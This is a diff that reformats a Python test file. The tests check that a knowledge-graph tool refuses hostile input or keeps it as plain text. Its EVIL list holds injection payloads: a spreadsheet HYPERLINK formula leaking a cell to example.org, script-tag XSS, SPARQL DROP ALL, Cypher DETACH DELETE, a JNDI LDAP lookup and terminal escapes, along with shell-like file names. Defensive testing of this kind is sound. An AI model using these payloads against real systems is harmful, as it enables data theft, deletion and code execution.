@@ -1,4 +1,5 @@
-"""Input made to break the tool: it is refused, or taken as plain text, in bounded time and memory."""
+"""Input made to break the tool: it is refused, or taken as plain text, in bounded time and
+memory."""
 
 import csv
 import io
@@ -30,11 +31,22 @@ from kg.storage.store import Store
 from tests.builders import make_claim, make_document, make_entity
 
 EVIL = (
-    '=HYPERLINK("http://example.org/?"&A1,"x")', "\x1b]0;owned\x07\x1b[2J", '"> <script>alert(1)</script>', "</graph></graphml><!--",
-    "]]>&xxe;", '> <urn:a> <urn:b> <urn:c> .\n<urn:x> <urn:y> "', '" . } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> "',
+    '=HYPERLINK("http://example.org/?"&A1,"x")',
+    "\x1b]0;owned\x07\x1b[2J",
+    '"> <script>alert(1)</script>',
+    "</graph></graphml><!--",
+    "]]>&xxe;",
+    '> <urn:a> <urn:b> <urn:c> .\n<urn:x> <urn:y> "',
+    '" . } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> "',
     "a') DETACH DELETE n //",
-    "\\u003e",     "\u202egnp.exe", "@SUM(1)", "-2+3", "\t=1", "${jndi:ldap://example.org}", "%s%n{0}",
-)  # fmt: skip
+    "\\u003e",
+    "\u202egnp.exe",
+    "@SUM(1)",
+    "-2+3",
+    "\t=1",
+    "${jndi:ldap://example.org}",
+    "%s%n{0}",
+)
 
 
 @contextmanager
@@ -96,14 +108,18 @@ def test_marks_of_emphasis_without_end_are_refused() -> None:
         read_bytes(b"word " + b"*a_ " * 30_000, "a.md")
 
 
-@pytest.mark.parametrize("docket", ["1-" * 1_600 + "!", "1" * 3_200, "1-1" * 1_000 + "é!", "1" + "-" * 3_200])
+@pytest.mark.parametrize(
+    "docket", ["1-" * 1_600 + "!", "1" * 3_200, "1-1" * 1_000 + "é!", "1" + "-" * 3_200]
+)
 def test_a_docket_is_read_in_time_that_grows_with_its_length(docket: str) -> None:
     with within(0.5, 5), pytest.raises(ResolveError, match="no docket"):
         read_known(f"name,docket\nCase,{docket}\n", ["Thing"])
     assert read_known("name,docket\nCase,1:23-cv-00456 (ABC)\n", ["Thing"])
 
 
-@pytest.mark.parametrize("mark", ["> ", "- ", "[", "*", "`", "![", "<", "|a", "\\", "1. ", "    ", "[a](", "**a_"])
+@pytest.mark.parametrize(
+    "mark", ["> ", "- ", "[", "*", "`", "![", "<", "|a", "\\", "1. ", "    ", "[a](", "**a_"]
+)
 def test_hostile_markdown(mark: str) -> None:
     with within(20, 400):
         try:
@@ -113,7 +129,10 @@ def test_hostile_markdown(mark: str) -> None:
             pass
 
 
-@pytest.mark.parametrize("joint", [" and Harlow paid Tessera", ", which Harlow, who said that", " of the board", " Quillmark"])
+@pytest.mark.parametrize(
+    "joint",
+    [" and Harlow paid Tessera", ", which Harlow, who said that", " of the board", " Quillmark"],
+)
 def test_a_sentence_of_ten_thousand_words(joint: str) -> None:
     text = "Quillmark said that Harlow paid Tessera" + joint * (10_000 // len(joint.split())) + "."
     document = Document(document_iri("a.txt", text), "a.txt", text)
@@ -144,7 +163,16 @@ def test_each_reader_takes_time_that_grows_with_the_input(name: str, source: str
 def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
     for k in range(3_000):
         (tmp_path / f"{k}.txt").touch()
-    odd = ["-rf.txt", "a\nb.txt", " .txt", "ü.txt", "'\"$(x).txt", "*.txt", os.fsdecode(b"\xff.txt"), "\x1b[31m.txt"]
+    odd = [
+        "-rf.txt",
+        "a\nb.txt",
+        " .txt",
+        "ü.txt",
+        "'\"$(x).txt",
+        "*.txt",
+        os.fsdecode(b"\xff.txt"),
+        "\x1b[31m.txt",
+    ]
     for name in odd:
         (tmp_path / name).write_text("Larkfield Motors sued Harlow.", "utf-8")
     (tmp_path / "loop").symlink_to(tmp_path)
@@ -157,7 +185,11 @@ def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
     assert time.perf_counter() - began < 5
     runner = CliRunner(env={"KG_STORE": str(tmp_path / "kg.store")})
     result = runner.invoke(main, ["add", *(str(tmp_path / name) for name in odd)])
-    assert result.exit_code in (0, 1) and result.exception is None or isinstance(result.exception, SystemExit)
+    assert (
+        result.exit_code in (0, 1)
+        and result.exception is None
+        or isinstance(result.exception, SystemExit)
+    )
     assert "\x1b" not in result.stdout + result.stderr
     listed = kg.open(tmp_path / "kg.store", read_only=True).documents()
     assert len(listed) >= len(odd) - 1  # a name that is no text cannot be kept
@@ -166,13 +198,20 @@ def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
 def evil_store(evil: str) -> Store:
     """Every field that comes from a source holds *evil*."""
     text = f"{evil} paid {evil} now."
-    document = make_document(f"{evil}.txt", text, title=evil, authors=(evil,), publisher=evil, url=evil)
-    subject, object_ = Entity(make_entity(evil).id, evil, "Person", (evil + "!",)), make_entity(evil + " Inc")
+    document = make_document(
+        f"{evil}.txt", text, title=evil, authors=(evil,), publisher=evil, url=evil
+    )
+    subject, object_ = (
+        Entity(make_entity(evil).id, evil, "Person", (evil + "!",)),
+        make_entity(evil + " Inc"),
+    )
     claim = make_claim(document, subject, "rel:pay", object_, text, reason=evil)
     store = Store.open()
     store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,)))
     store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), ()))
-    store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,)))  # through an update
+    store.add(
+        Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,))
+    )  # through an update
     return store
 
 
@@ -193,7 +232,9 @@ def test_text_never_becomes_syntax(evil: str, tmp_path: Path) -> None:
     assert len(row) == len(head)
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
     table = graph.query("SELECT ?l { ?e skos:prefLabel ?l }").to_csv()
-    assert not any(cell[:1] in "=+-@\t\r" for (cell,) in csv.reader(io.StringIO(table, newline="")) if cell)
+    assert not any(
+        cell[:1] in "=+-@\t\r" for (cell,) in csv.reader(io.StringIO(table, newline="")) if cell
+    )
     page = graph.view().html
     assert "<script>alert(1)" not in page and "\x1b]" not in page
     again = kg.open()
@@ -220,7 +261,10 @@ def test_no_query_writes_or_reaches_out(query: str) -> None:
 
 
 def test_hidden_service_is_refused() -> None:
-    for text in ("SELECT * { ?s ?p '''a''b''' . SERVICE <http://127.0.0.1:9> {} }", 'SELECT * { ?s ?p "\\"" . SERVICE <urn:x> {} }'):
+    for text in (
+        "SELECT * { ?s ?p '''a''b''' . SERVICE <http://127.0.0.1:9> {} }",
+        'SELECT * { ?s ?p "\\"" . SERVICE <urn:x> {} }',
+    ):
         with pytest.raises(QueryRefused):
             kg.open().query(text)
 
